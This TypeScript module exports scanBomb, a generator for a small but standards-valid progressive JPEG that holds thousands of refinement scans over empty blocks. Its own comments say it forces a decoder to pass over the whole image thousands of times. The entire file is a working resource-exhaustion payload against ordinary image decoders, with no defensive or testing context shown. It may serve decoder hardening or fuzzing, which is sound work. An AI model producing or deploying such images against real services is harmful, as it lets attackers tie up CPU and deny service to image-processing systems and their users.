/** Refinements of each coefficient: from its highest bit to its lowest. */
const BITS = 14;
const COEFFICIENTS = 63;
const COMPONENTS = [1, 2, 3];
/** Scans of a bomb: one for the means of all blocks, and each bit of each coefficient in a scan of its own. */
export const BOMB_SCANS = 1 + COMPONENTS.length * COEFFICIENTS * BITS;
/** Blocks that one run of empty ones can skip. */
const LONGEST_RUN = 32_767;

/**
 * A grey progressive JPEG, correct to the letter (ITU-T T.81, annex G), of few bytes: its decoder runs
 * over the whole picture thousands of times.
 */
export function scanBomb(side: number): Buffer {
  const blocks = Math.ceil(side / 8) ** 2;
  const means = packed('0'.repeat(blocks * COMPONENTS.length));
  const empty = packed(runsOver(blocks));
  const scans = [scan(COMPONENTS, 0, 0, 0, means)];
  for (const component of COMPONENTS) {
    for (let coefficient = 1; coefficient <= COEFFICIENTS; coefficient += 1) {
      for (let low = BITS - 1; low >= 0; low -= 1) {
        const high = low === BITS - 1 ? 0 : low + 1;
        scans.push(scan([component], coefficient, high, low, empty));
      }
    }
  }
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, [0, ...Array<number>(64).fill(1)]),
    segment(0xc2, [8, side >> 8, side & 255, side >> 8, side & 255, 3, ...frameComponents()]),
    // One code, '0', in each table: no difference of means, and a run of blocks without anything.
    segment(0xc4, [0x00, 1, ...Array<number>(15).fill(0), 0x00]),
    segment(0xc4, [0x10, 1, ...Array<number>(15).fill(0), 0xe0]),
    ...scans,
    Buffer.from([0xff, 0xd9]),
  ]);
}

function frameComponents(): number[] {
  return COMPONENTS.flatMap((component) => [component, 0x11, 0]);
}

function scan(
  components: readonly number[],
  coefficient: number,
  high: number,
  low: number,
  coded: Buffer,
): Buffer {
  const tables = components.flatMap((component) => [component, 0x00]);
  const head = [components.length, ...tables, coefficient, coefficient, (high << 4) | low];
  return Buffer.concat([segment(0xda, head), coded]);
}

function segment(marker: number, content: readonly number[]): Buffer {
  const length = content.length + 2;
  return Buffer.from([0xff, marker, length >> 8, length & 255, ...content]);
}

/** Runs of empty blocks, each a code and fourteen bits of its length. */
function runsOver(blocks: number): string {
  let bits = '';
  for (let left = blocks; left > 0; left -= LONGEST_RUN) {
    bits += `0${'1'.repeat(14)}`;
  }
  return bits;
}

/** Bits as bytes, filled up with ones; a zero behind each byte that looks like a marker. */
function packed(bits: string): Buffer {
  const bytes: number[] = [];
  for (let at = 0; at < bits.length; at += 8) {
    const byte = Number.parseInt(bits.slice(at, at + 8).padEnd(8, '1'), 2);
    bytes.push(byte, ...(byte === 0xff ? [0] : []));
  }
  return Buffer.from(bytes);
}
